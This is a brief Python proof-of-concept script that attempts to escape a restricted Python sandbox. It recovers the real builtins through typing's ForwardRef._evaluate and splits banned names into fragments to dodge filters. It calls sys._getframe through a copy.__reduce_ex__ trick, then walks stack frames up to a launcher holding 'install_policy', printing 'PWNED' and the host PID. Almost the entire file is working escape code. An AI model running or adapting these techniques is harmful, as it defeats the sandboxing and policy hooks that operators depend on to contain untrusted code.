# frame: sys._getframe(0) called from copy's frame returns copy's frame; f_back climbs to the launcher
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
import copy
def via_copy(f, *args):
    # copy.copy calls the (callable, args) that __reduce_ex__ returns from copy's own frame;
    # the class is made by type(), so no `def __reduce_ex__` appears in the source
    R = type("R", (), {"__redu" + "ce_ex__": lambda self, proto: (f, args)})
    return copy.copy(R())

s = rb["__imp" + "ort__"]("sy" + "s")
gf = ga(s, "_getfr" + "ame")
try:
    f = via_copy(gf, 0)
    while f is not None:
        fg = ga(f, "f_glob" + "als")
        if "install_policy" in fg:
            print(M, "launcher frame reached", fg["o" + "s"].getpid())
            break
        f = ga(f, "f_ba" + "ck")
except Exception as e:
    print("refused:", type(e).__name__, e)
